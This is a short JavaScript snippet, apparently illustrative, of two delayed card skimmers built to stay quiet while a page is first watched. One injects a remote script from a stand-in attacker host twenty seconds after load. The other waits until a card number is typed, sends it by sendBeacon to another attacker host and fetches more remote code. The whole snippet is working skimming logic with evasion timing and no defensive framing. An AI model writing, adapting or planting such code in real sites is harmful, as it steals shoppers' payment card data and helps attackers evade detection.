// Skimmers that stay quiet while a page is first watched: one loads its
// payload twenty seconds after load, the other only once a card number
// has been typed, then sends it away.
setTimeout(function () {
  var s = document.createElement('script');
  s.src = 'https://late.attacker.example/payload.js';
  document.head.appendChild(s);
}, 20000);
document.addEventListener('DOMContentLoaded', function () {
  var field = document.querySelector('input[name=cardnumber]');
  field.addEventListener('change', function () {
    if (field.value.replace(/\D/g, '').length < 13) return;
    setTimeout(function () {
      navigator.sendBeacon('https://typed.attacker.example/c', field.value);
      var s = document.createElement('script');
      s.src = 'https://typed.attacker.example/more.js';
      document.head.appendChild(s);
    }, 5000);
  });
});
